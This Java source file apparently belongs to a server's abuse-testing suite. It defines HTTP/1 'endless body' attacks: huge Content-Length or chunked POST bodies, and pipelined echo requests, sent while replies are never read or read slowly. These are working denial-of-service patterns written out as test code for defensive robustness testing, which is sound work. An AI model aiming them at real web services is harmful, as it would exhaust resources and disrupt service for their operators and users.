package io.resound.abuse;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;

/**
 * Sends bodies on HTTP/1 as fast as the service takes them.
 *
 * @param name the name of the attack
 * @param start what each connection sends first
 * @param repeated what it then sends over and over
 * @param bytesReadPerSecond how fast it reads what comes back
 */
record EndlessBody(String name, byte[] start, byte[] repeated, int bytesReadPerSecond) implements Attack {

	private static final String POST = "POST /echo HTTP/1.1\r\nHost: a\r\n";

	private static final String WITH_LENGTH = POST + "Content-Length: 1000000000\r\n\r\n";

	private static final String CHUNKED = POST + "Transfer-Encoding: chunked\r\n\r\n";

	private static final String CHUNK = "4000\r\n" + "x".repeat(0x4000) + "\r\n";

	static EndlessBody withLength() {
		return body("HTTP/1: body with a length, never read", WITH_LENGTH, "x".repeat(16_384), 0);
	}

	static EndlessBody chunked() {
		return body("HTTP/1: chunked body, never read", CHUNKED, CHUNK, 0);
	}

	static EndlessBody pipelined(String size, int bytes) {
		return body("HTTP/1: pipelined echoes of " + size + ", never read", "",
				POST + "Content-Length: " + bytes + "\r\n\r\n" + "x".repeat(bytes), 0);
	}

	/** Fast enough that the exchange never looks stalled. */
	static EndlessBody readSlowly() {
		return body("HTTP/1: body with a length, read at 3 KB/s", WITH_LENGTH, "x".repeat(16_384), 3000);
	}

	static EndlessBody chunkedAndReadSlowly() {
		return body("HTTP/1: chunked body, read at 3 KB/s", CHUNKED, CHUNK, 3000);
	}

	private static EndlessBody body(String name, String start, String repeated, int bytesReadPerSecond) {
		return new EndlessBody(name, start.getBytes(StandardCharsets.US_ASCII),
				repeated.getBytes(StandardCharsets.US_ASCII), bytesReadPerSecond);
	}

	@Override
	public Duration timeLimit() {
		return STALL_TIMEOUT;
	}

	@Override
	public Script script() {
		ByteBuffer first = ByteBuffer.wrap(this.start);
		return () -> first.hasRemaining() ? first : ByteBuffer.wrap(this.repeated);
	}

}
